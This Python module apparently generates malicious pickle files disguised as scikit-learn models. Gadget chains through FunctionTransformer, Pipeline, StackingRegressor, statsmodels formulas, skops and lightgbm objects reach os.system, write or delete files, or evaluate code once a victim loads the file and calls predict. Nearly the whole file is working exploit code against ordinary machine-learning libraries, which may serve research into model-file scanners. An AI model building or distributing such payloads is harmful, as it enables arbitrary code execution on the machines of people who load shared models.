"""Models that load like any other and act when they predict: everything they hold was once on a list."""

from __future__ import annotations

import pickle
from typing import Any, Final

import pandas

from .assembly import Attack, Call, Calls, Name, Payload, Raw, new, of_calls

_VERSION: Final = "1.9.1"
_ANALYZE: Final = Name("sklearn.feature_extraction.text:_analyze")
_BY_NAME: Final = Name("numpy._core.fromnumeric:_wrapfunc")
_QUERY: Final = Name("sklearn.neighbors._base:_tree_query_parallel_helper")


def applies(function: Any, **keywords: Any) -> Raw:
    """A transformer that applies a function to what it is given."""
    state = {
        **dict.fromkeys(("inverse_func", "inv_kw_args", "feature_names_out"), None),
        **dict.fromkeys(("validate", "accept_sparse", "check_inverse"), False),
        "func": function,
        "kw_args": keywords,
        "_sklearn_version": _VERSION,
    }
    return new("sklearn.preprocessing._function_transformer:FunctionTransformer", state=state)


def pipeline(*steps: Any) -> Raw:
    """One after the other."""
    named = [(f"s{number}", step) for number, step in enumerate(steps)]
    state = {"steps": named, "memory": None, "verbose": False, "transform_input": None, "_sklearn_version": _VERSION}
    return new("sklearn.pipeline:Pipeline", state=state)


def _whatever(value: Any, function: Any) -> Call:
    """A function of any argument that calls another one with a value of the file's."""
    return Call("functools:partial", _ANALYZE, value, function)


def _stack(estimator: Any, method: Any) -> Raw:
    """A stack that asks one estimator by that method."""
    state = {"estimators_": [estimator], "stack_method_": method, "passthrough": False, "_sklearn_version": _VERSION}
    return new("sklearn.ensemble._stacking:StackingRegressor", state=state)


def _system(payload: Payload) -> Raw:
    """From a function to the module it was written in, from there to the shell, by the method of that name."""
    globals_of = Call("functools:partial", _BY_NAME, Name("numpy.lib._utils_impl:get_include"), "__getattribute__")
    return pipeline(
        applies(_whatever("__globals__", globals_of)),
        applies(Call("operator:itemgetter", "os")),
        applies(_BY_NAME, method="system", command=payload.shell),
    )


def _query(payload: Payload) -> Raw:
    """A search for neighbours in a table, which takes what it looks for as a program."""
    frame = Raw(pickle.dumps(pandas.DataFrame({"a": [1]}), 3)[2:-1])
    return applies(_whatever(f"a.to_csv({payload.marker!r})", Call("functools:partial", _QUERY, frame)))


RUNS: Final[Calls] = {
    "predicts by a shell": _system,
    "predicts by a method of anything": lambda p: pipeline(
        applies(_whatever("x", Name("builtins:repr"))),
        applies(_whatever("x", Call("functools:partial", _BY_NAME, Call("pathlib:PosixPath", p.marker), "write_text"))),
    ),
    "predicts by a stack that writes": lambda p: pipeline(
        applies(_whatever("x", Name("builtins:repr"))), _stack(Call("pathlib:PosixPath", p.marker), ["write_text"])
    ),
    "predicts by a class that keeps a log": lambda p: applies(_whatever(p.marker, Name("joblib.logger:PrintTime"))),
}
"""What runs a payload when it predicts."""

NEEDS_MORE: Final[Calls] = {
    "predicts by a query": _query,
    "prints itself by loading a file": lambda p: new(
        "skops.card._model_card:Card", state={"model": p.marker, "trusted": None, "allow_pickle": True}
    ),
    "removes a file at the end of a with": lambda p: new("lightgbm.basic:_TempFile", state={"path": p.marker}),
    "predicts by a formula": lambda p: new(
        "statsmodels.base.data:PandasData", state={"formula": "y ~ a", "design_info": f"I([{p.code}, a][1])"}
    ),
    "predicts by a formula among pairs": lambda p: new(
        "statsmodels.base.data:PandasData", state=[("design_info", f"I([{p.code}, a][1])")]
    ),
    "predicts by a formula of splines": lambda p: new(
        "statsmodels.gam.smooth_basis:GenericSmoothers", state={"design_info": f"I([{p.code}, x][1])"}
    ),
}
"""What does so where other libraries or files are."""


def attacks() -> list[Attack]:
    """One file for each."""
    return [*of_calls("answers", RUNS, loader="predict"), *of_calls("answers", NEEDS_MORE, loader="")]
